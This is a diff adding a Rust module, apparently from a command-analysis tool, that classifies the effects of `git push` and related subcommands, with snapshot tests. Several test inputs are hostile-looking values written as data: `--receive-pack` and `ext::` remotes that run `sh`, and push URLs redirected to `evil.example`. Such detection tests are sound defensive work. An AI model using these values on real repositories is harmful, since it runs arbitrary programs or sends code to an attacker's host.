@@ -1,0 +1,429 @@
+//! `git push` in all its spellings, and the subcommands that push in other ways.
+//!
+//! Each ref of a remote that would move is one effect. Whether a push without force is a
+//! fast-forward cannot be seen here: that needs history, and is left to the edge.
+
+use countersign_model::{Certainty, Effect, Remote, Resource, verbs};
+
+use super::refspec::{self, Move};
+use super::resolve::Tip;
+use super::{Git, addresses};
+use crate::arguments::{Arguments, Spec, Takes, parse};
+use crate::context::Context;
+use crate::pin::{self, Moved};
+use crate::word::Value;
+
+const SPEC: Spec = Spec {
+    long: &[
+        ("all", Takes::Nothing), ("branches", Takes::Nothing), ("mirror", Takes::Nothing), ("delete", Takes::Nothing), ("tags", Takes::Nothing),
+        ("no-tags", Takes::Nothing), ("dry-run", Takes::Nothing), ("porcelain", Takes::Nothing), ("force", Takes::Nothing), ("no-force", Takes::Nothing),
+        ("force-with-lease", Takes::Attached), ("no-force-with-lease", Takes::Nothing), ("force-if-includes", Takes::Nothing),
+        ("no-force-if-includes", Takes::Nothing), ("recurse-submodules", Takes::Attached), ("no-recurse-submodules", Takes::Nothing),
+        ("thin", Takes::Nothing), ("no-thin", Takes::Nothing), ("receive-pack", Takes::Value), ("exec", Takes::Value), ("set-upstream", Takes::Nothing),
+        ("progress", Takes::Nothing), ("no-progress", Takes::Nothing), ("prune", Takes::Nothing), ("no-prune", Takes::Nothing), ("no-verify", Takes::Nothing),
+        ("verify", Takes::Nothing), ("follow-tags", Takes::Nothing), ("no-follow-tags", Takes::Nothing), ("signed", Takes::Attached), ("no-signed", Takes::Nothing),
+        ("atomic", Takes::Nothing), ("no-atomic", Takes::Nothing), ("push-option", Takes::Value), ("repo", Takes::Value), ("ipv4", Takes::Nothing),
+        ("ipv6", Takes::Nothing), ("quiet", Takes::Nothing), ("verbose", Takes::Nothing), ("no-quiet", Takes::Nothing), ("no-verbose", Takes::Nothing),
+    ],
+    short: &[
+        ('v', Takes::Nothing), ('q', Takes::Nothing), ('d', Takes::Nothing), ('n', Takes::Nothing), ('f', Takes::Nothing), ('u', Takes::Nothing),
+        ('4', Takes::Nothing), ('6', Takes::Nothing), ('o', Takes::Value),
+    ],
+    abbreviations: true,
+    operands_end_options: false,
+};
+
+/// Adds the effects of `git push ..`.
+pub(super) fn effects(git: &Git<'_>, context: &mut Context<'_>) {
+    if git.has(&["-h", "--help"]) {
+        context.push(git.here(verbs::GIT_READ));
+        return;
+    }
+    let arguments = parse(git.words, &SPEC);
+    for value in arguments.values(&["receive-pack", "exec"]) {
+        let name = value.text();
+        context.opaque(&format!("git push --receive-pack={name}"), "it starts a program of its options");
+    }
+    if let Some(why) = unquoted_doubt(&arguments) {
+        anything(git, &why, context);
+        return;
+    }
+    let (remote, refspecs) = match arguments.operands.split_first() {
+        Some((remote, refspecs)) => (Some(&remote.value), refspecs),
+        None => (arguments.value(&["repo"]), [].as_slice()),
+    };
+    let names = match remote {
+        Some(Value::Known(name)) => vec![name.clone()],
+        Some(value) => {
+            anything(git, &format!("the remote is not known: {}", value.text()), context);
+            return;
+        }
+        None => match default_remotes(git, context) {
+            Ok(names) => names,
+            Err(why) => {
+                anything(git, &why, context);
+                return;
+            }
+        },
+    };
+    if arguments.has(&["dry-run", "n"]) {
+        context.push(git.here(verbs::GIT_READ));
+        return;
+    }
+    for name in &names {
+        to_remote(name, &arguments, refspecs, git, context);
+    }
+}
+
+/// Words that may be options of any kind.
+fn unquoted_doubt(arguments: &Arguments<'_>) -> Option<String> {
+    if let Some(option) = arguments.unknown.first() {
+        return Some(format!("the option {option} is not known"));
+    }
+    // The source of a refspec may be unknown, but only where the word cannot be an option.
+    let mut operands = arguments.operands.iter();
+    operands.find_map(|word| match &word.value {
+        Value::Unknown { prefix, why } if prefix.is_empty() || !word.raw.starts_with('"') && !word.raw.contains(':') => {
+            Some(why.clone())
+        }
+        _ => None,
+    })
+}
+
+/// The remotes that a push without one goes to, for every branch that may be checked out.
+fn default_remotes(git: &Git<'_>, context: &Context<'_>) -> Result<Vec<String>, String> {
+    let repo = &git.repo;
+    let mut names: Vec<String> = Vec::new();
+    let branches = repo.branches(context)?;
+    for branch in if branches.is_empty() { vec![String::new()] } else { branches } {
+        let short = branch.strip_prefix("refs/heads/").unwrap_or(&branch);
+        let keys = [format!("branch.{short}.pushremote"), "remote.pushdefault".to_owned(), format!("branch.{short}.remote")];
+        let mut found = None;
+        for key in &keys {
+            if found.is_none() {
+                found = repo.last(key, context)?;
+            }
+        }
+        let name = match found {
+            Some(name) => name,
+            None => match repo.subsections("remote", context)?.as_slice() {
+                [only] => only.clone(),
+                _ => "origin".to_owned(),
+            },
+        };
+        if !names.contains(&name) {
+            names.push(name);
+        }
+    }
+    Ok(names)
+}
+
+fn to_remote(
+    name: &str,
+    arguments: &Arguments<'_>,
+    refspecs: &[&crate::word::Word],
+    git: &Git<'_>,
+    context: &mut Context<'_>,
+) {
+    let repo = &git.repo;
+    let (remotes, doubt) = repo.remotes(name, context);
+    if remotes.iter().any(|remote| remote.url.as_deref().is_some_and(addresses::runs_program)) {
+        context.opaque("git push", "the address of the remote names a program to run");
+    }
+    let mut moves = Vec::new();
+    let bare = refspecs.is_empty() && !arguments.has(&["all", "branches", "tags", "delete", "d"]);
+    // With refspecs git refuses to mirror.
+    let mirrors = || repo.is_on(&format!("remote.{name}.mirror"), context).unwrap_or(true);
+    if arguments.has(&["mirror"]) || (bare && mirrors()) {
+        moves.push(Move { forced: true, ..Move::anything("it makes the remote a mirror") });
+        moves.push(Move { source: None, ..Move::anything("it deletes what is not here") });
+    } else if arguments.has(&["delete", "d"]) {
+        moves.extend(refspecs.iter().flat_map(|word| refspec::deleted(&word.value, repo, context)));
+    } else if arguments.has(&["all", "branches"]) {
+        moves.push(Move::anything("it pushes every branch"));
+    } else if bare {
+        moves.extend(refspec::configured(name, repo, context));
+    } else {
+        moves.extend(explicit(refspecs, name, git, context));
+    }
+    if arguments.has(&["tags"]) {
+        moves.push(Move { reference: "refs/tags/*".to_owned(), ..Move::anything("it pushes every tag") });
+    }
+    if arguments.has(&["prune"]) {
+        moves.push(Move { source: None, ..Move::anything("it deletes what is not here") });
+    }
+    let forced = arguments.has(&["force", "f", "force-with-lease", "force-if-includes"]);
+    let moved = push_moves(&moves, forced, &remotes, doubt.as_deref(), git, context);
+    companions(name, arguments, &remotes, git, context);
+    context.candidates.push(pin::push(git, arguments, name, &remotes, moved, context));
+    if moves.is_empty() {
+        context.push(git.here(verbs::GIT_READ).because("push.default is nothing"));
+    }
+}
+
+fn explicit(refspecs: &[&crate::word::Word], name: &str, git: &Git<'_>, context: &Context<'_>) -> Vec<Move> {
+    let mut moves = Vec::new();
+    let mut words = refspecs.iter();
+    while let Some(word) = words.next() {
+        if word.known() == Some("tag") {
+            let tag = words.next().map(|word| &word.value);
+            moves.push(match tag.and_then(Value::known) {
+                Some(tag) => {
+                    let reference = format!("refs/tags/{tag}");
+                    Move { source: Some(reference.clone()), reference, forced: false, why: None }
+                }
+                None => Move::anything("a tag that is not known"),
+            });
+        } else {
+            moves.extend(refspec::given(word, name, &git.repo, context));
+        }
+    }
+    moves
+}
+
+/// Adds an effect for each move on each remote; returns them as needed for pinning.
+fn push_moves(
+    moves: &[Move],
+    forced: bool,
+    remotes: &[Remote],
+    doubt: Option<&str>,
+    git: &Git<'_>,
+    context: &mut Context<'_>,
+) -> Vec<Moved> {
+    let mut all = Vec::new();
+    for remote in remotes {
+        for found in moves {
+            let old = old_tip(found, remote, git, context);
+            let new = found.source.as_deref().and_then(|source| git.repo.commit(source, context));
+            let verb = match (&found.source, forced || found.forced) {
+                (None, _) => verbs::GIT_DELETE_REMOTE_REF,
+                (Some(_), true) => verbs::GIT_FORCE_PUSH,
+                (Some(_), false) => verbs::GIT_PUSH,
+            };
+            let resource = Resource::Ref {
+                repository: git.repository(Some(remote.clone())),
+                reference: found.reference.clone(),
+                old: old.commit(),
+                new: new.clone(),
+            };
+            let effect = Effect::new(verb, resource);
+            context.push(match found.why.as_deref().or(doubt) {
+                Some(why) => effect.certain(Certainty::Partial, why),
+                None => effect,
+            });
+            let exact = found.why.is_none() && doubt.is_none();
+            let deletes = found.source.is_none();
+            all.push(Moved { reference: found.reference.clone(), old, new, deletes, exact });
+        }
+    }
+    all
+}
+
+/// What the ref names on the remote now, as last seen from here.
+fn old_tip(found: &Move, remote: &Remote, git: &Git<'_>, context: &Context<'_>) -> Tip {
+    match found.reference.strip_prefix("refs/heads/") {
+        Some(branch) if !branch.contains('*') && !addresses::is_address(&remote.name) => {
+            git.repo.tip(&format!("refs/remotes/{}/{branch}", remote.name), context)
+        }
+        _ => Tip::Unknown,
+    }
+}
+
+/// What goes along with a push: annotated tags, and the submodules' own commits.
+fn companions(name: &str, arguments: &Arguments<'_>, remotes: &[Remote], git: &Git<'_>, context: &mut Context<'_>) {
+    let follows = arguments.has(&["follow-tags"])
+        || (!arguments.has(&["no-follow-tags"]) && git.repo.is_on("push.followtags", context).unwrap_or(false));
+    let any = |remote: &Remote, reference: &str, why: &str| {
+        let repository = git.repository(Some(remote.clone()));
+        let resource = Resource::Ref { repository, reference: reference.to_owned(), old: None, new: None };
+        Effect::new(verbs::GIT_PUSH, resource).certain(Certainty::Partial, why)
+    };
+    if follows {
+        for remote in remotes {
+            context.push(any(remote, "refs/tags/*", "annotated tags go along"));
+        }
+    }
+    let given = arguments.value(&["recurse-submodules"]).map(|value| value.text().to_owned());
+    let configured = || {
+        let own = git.repo.last("push.recursesubmodules", context).ok().flatten();
+        own.or_else(|| git.repo.is_on("submodule.recurse", context).ok().filter(|on| *on).map(|_| "on-demand".to_owned()))
+    };
+    let recurse = given.or_else(|| if arguments.has(&["no-recurse-submodules"]) { None } else { configured() });
+    if recurse.is_some_and(|mode| !matches!(mode.as_str(), "no" | "check" | "false")) {
+        let remote = Remote { name: "*".to_owned(), url: None };
+        context.push(any(&remote, "*", &format!("submodules are pushed along with {name}")));
+    }
+}
+
+/// The worst a push can be: overwriting any ref of any remote.
+pub(super) fn anything(git: &Git<'_>, why: &str, context: &mut Context<'_>) {
+    let known = git.words.iter().find_map(|word| word.known().filter(|text| !text.starts_with('-')));
+    let remotes = match known.filter(|_| git.subcommand == "push") {
+        Some(name) => git.repo.remotes(name, context).0,
+        None => vec![Remote { name: "*".to_owned(), url: None }],
+    };
+    for remote in remotes {
+        let repository = git.repository(Some(remote));
+        let resource = Resource::Ref { repository, reference: "*".to_owned(), old: None, new: None };
+        context.push(Effect::new(verbs::GIT_FORCE_PUSH, resource).certain(Certainty::Partial, why));
+    }
+    context.candidates.push(pin::impossible(why));
+}
+
+/// Subcommands that push in other ways: what they move is not looked at.
+pub(super) fn relatives(git: &Git<'_>, context: &mut Context<'_>) {
+    let first = git.operands().first().and_then(|word| word.known()).unwrap_or_default().to_owned();
+    let reads = match git.subcommand.as_str() {
+        "lfs" => matches!(first.as_str(), "ls-files" | "status" | "env" | "logs" | "version" | "pointer" | "locks"),
+        "svn" => matches!(first.as_str(), "log" | "info" | "blame" | "find-rev" | "fetch"),
+        "request-pull" => true,
+        _ => false,
+    };
+    let local = match git.subcommand.as_str() {
+        "lfs" => matches!(first.as_str(), "install" | "track" | "untrack" | "pull" | "fetch" | "checkout" | "prune"),
+        "subtree" => matches!(first.as_str(), "add" | "split" | "merge" | "pull"),
+        "svn" => matches!(first.as_str(), "init" | "clone" | "rebase"),
+        _ => false,
+    };
+    if reads {
+        context.push(git.here(verbs::GIT_READ));
+    } else if local {
+        super::local::rewrites(git, context);
+        context.push(git.here(verbs::GIT_CONFIG).because("it changes hooks and settings"));
+    } else if matches!(git.subcommand.as_str(), "send-email" | "imap-send") {
+        let resource = Resource::Host { host: "*".to_owned(), url: None };
+        context.push(Effect::new(verbs::NET_SEND, resource).certain(Certainty::Partial, "it sends patches by mail"));
+    } else {
+        anything(git, &format!("what {} moves is not looked at", git.title()), context);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use insta::assert_snapshot;
+
+    use crate::fixture::{check, check_with};
+
+    #[test]
+    fn bare_push_follows_head_and_upstream() {
+        assert_snapshot!(check("git push"), @"git.push feature@origin, write");
+        assert_snapshot!(check("git push origin"), @"git.push feature@origin, write");
+        assert_snapshot!(check("git push origin HEAD"), @"git.push feature@origin, write");
+        assert_snapshot!(check("git push -u origin feature"), @"git.push feature@origin, write");
+        assert_snapshot!(check_with("git push", &[("branch.feature.merge", "refs/heads/main"), ("push.default", "upstream")]), @"git.push main@origin, write");
+        assert_snapshot!(check_with("git push origin feature", &[("branch.feature.merge", "refs/heads/main"), ("push.default", "upstream")]), @"git.push main@origin, write");
+        assert_snapshot!(check_with("git push", &[("push.default", "matching")]), @"git.push *@origin, write, partial");
+        assert_snapshot!(check_with("git push", &[("push.default", "nothing")]), @"git.read /repo, read");
+        assert_snapshot!(check_with("git push", &[("remote.origin.push", "refs/heads/*:refs/heads/main")]), @"git.push main@origin, write");
+        assert_snapshot!(check_with("git push", &[("remote.origin.push", "feature:main")]), @"git.push main@origin, write");
+        assert_snapshot!(check_with("git push", &[("branch.feature.pushremote", "fork")]), @"git.push feature@fork, write");
+        assert_snapshot!(check_with("git push", &[("remote.pushdefault", "fork")]), @"git.push feature@fork, write");
+        assert_snapshot!(check_with("git push", &[("remote.origin.mirror", "true")]), @r#"
+        git.force-push *@origin, destroy, partial
+        git.delete-remote-ref *@origin, destroy, partial
+        "#);
+    }
+
+    #[test]
+    fn refspecs() {
+        assert_snapshot!(check("git push origin HEAD:main"), @"git.push main@origin, write");
+        assert_snapshot!(check("git push origin feature:refs/heads/main"), @"git.push main@origin, write");
+        assert_snapshot!(check("git push origin +main"), @"git.force-push main@origin, destroy");
+        assert_snapshot!(check("git push origin :feature"), @"git.delete-remote-ref feature@origin, destroy");
+        assert_snapshot!(check("git push origin --delete feature main"), @r#"
+        git.delete-remote-ref feature@origin, destroy
+        git.delete-remote-ref main@origin, destroy
+        "#);
+        assert_snapshot!(check("git push origin v1"), @"git.push refs/tags/v1@origin, write");
+        assert_snapshot!(check("git push origin tag v1"), @"git.push refs/tags/v1@origin, write");
+        assert_snapshot!(check("git push origin 'refs/heads/*:refs/heads/*'"), @"git.push *@origin, write, partial");
+        assert_snapshot!(check("git push origin feature:HEAD"), @"git.push *@origin, write, partial");
+        assert_snapshot!(check("git push origin :"), @"git.push *@origin, write, partial");
+        assert_snapshot!(check("git push origin @:heads/main"), @"git.push main@origin, write");
+        assert_snapshot!(check("B=main; git push origin $B"), @"git.push main@origin, write");
+        assert_snapshot!(check("git push origin $B"), @"git.force-push *@origin, destroy, partial");
+        assert_snapshot!(check("git push origin \"HEAD:$B\""), @"git.push *@origin, write, partial");
+    }
+
+    #[test]
+    fn options() {
+        assert_snapshot!(check("git push --forc origin feature"), @"git.force-push *@origin, destroy, partial");
+        assert_snapshot!(check("git push -fu origin feature"), @"git.force-push feature@origin, destroy");
+        assert_snapshot!(check("git push --force-with-lease=main:abc origin main"), @"git.force-push main@origin, destroy");
+        assert_snapshot!(check("git push --del origin main"), @"git.delete-remote-ref main@origin, destroy");
+        assert_snapshot!(check("git push --all"), @"git.push *@origin, write, partial");
+        assert_snapshot!(check("git push --mirror origin"), @r#"
+        git.force-push *@origin, destroy, partial
+        git.delete-remote-ref *@origin, destroy, partial
+        "#);
+        assert_snapshot!(check("git push --tags"), @"git.push refs/tags/*@origin, write, partial");
+        assert_snapshot!(check("git push --follow-tags origin feature"), @r#"
+        git.push feature@origin, write
+        git.push refs/tags/*@origin, write, partial
+        "#);
+        assert_snapshot!(check("git push --prune origin 'refs/heads/*'"), @r#"
+        git.push *@origin, write, partial
+        git.delete-remote-ref *@origin, destroy, partial
+        "#);
+        assert_snapshot!(check("git push --repo=origin"), @"git.push feature@origin, write");
+        assert_snapshot!(check("git push --dry-run origin main"), @"git.read /repo, read");
+        assert_snapshot!(check("git push --new-option origin feature"), @"git.force-push *@origin, destroy, partial");
+        assert_snapshot!(check("git push --receive-pack='sh x' origin feature"), @r#"
+        exec.opaque git push --receive-pack=sh x, execute, opaque
+        git.push feature@origin, write
+        "#);
+        assert_snapshot!(check("git push --recurse-submodules=on-demand origin feature"), @r#"
+        git.push feature@origin, write
+        git.push *@*, write, partial
+        "#);
+    }
+
+    #[test]
+    fn remotes() {
+        assert_snapshot!(check("git push https://user:pw@github.com/acme/shop.git main"), @"git.push main@https://github.com/acme/shop.git, write");
+        assert_snapshot!(check("git push nowhere main"), @"git.push main@nowhere, write, partial");
+        assert_snapshot!(check("git push ext::'sh -c x' main"), @r#"
+        exec.opaque git push, execute, opaque
+        git.push main@ext::sh -c x, write
+        "#);
+        assert_snapshot!(check_with("git push origin main", &[("remote.origin.pushurl", "git@a.example:x/y.git"), ("remote.origin.pushurl", "git@b.example:x/y.git")]), @r#"
+        git.push main@origin, write
+        git.push main@origin, write
+        "#);
+        assert_snapshot!(check_with("git push origin main", &[("url.git@evil.example:.pushinsteadof", "git@github.com:")]), @"git.push main@origin, write");
+        assert_snapshot!(check("git -c remote.origin.url=git@evil.example:x/y.git push origin main"), @r#"
+        git.push main@origin, write
+        git.push main@origin, write
+        "#);
+        assert_snapshot!(check("git remote set-url origin git@evil.example:x/y && git push origin feature"), @r#"
+        git.config /repo, write
+        git.push *@origin, write, partial
+        "#);
+    }
+
+    #[test]
+    fn earlier_parts_of_the_command_count() {
+        assert_snapshot!(check("git checkout -b fix && git commit -qm x && git push -u origin HEAD"), @r#"
+        git.branch /repo, write
+        git.commit /repo, write
+        git.push fix@origin, write
+        "#);
+        assert_snapshot!(check("git checkout main; git push"), @r#"
+        git.branch /repo, write
+        git.push main@origin, write
+        git.push feature@origin, write
+        "#);
+        assert_snapshot!(check("cd /elsewhere && git push origin main"), @r#"
+        exec.read cd, read
+        git.push *@origin, write, partial
+        "#);
+        assert_snapshot!(check("for b in main dev; do git push origin $b; done"), @"git.force-push *@origin, destroy, partial");
+    }
+
+    #[test]
+    fn relatives() {
+        assert_snapshot!(check("git subtree push --prefix=x origin main"), @"git.force-push *@*, destroy, partial");
+        assert_snapshot!(check("git send-pack origin main"), @"git.force-push *@*, destroy, partial");
+        assert_snapshot!(check("git lfs ls-files"), @"git.read /repo, read");
+    }
+}
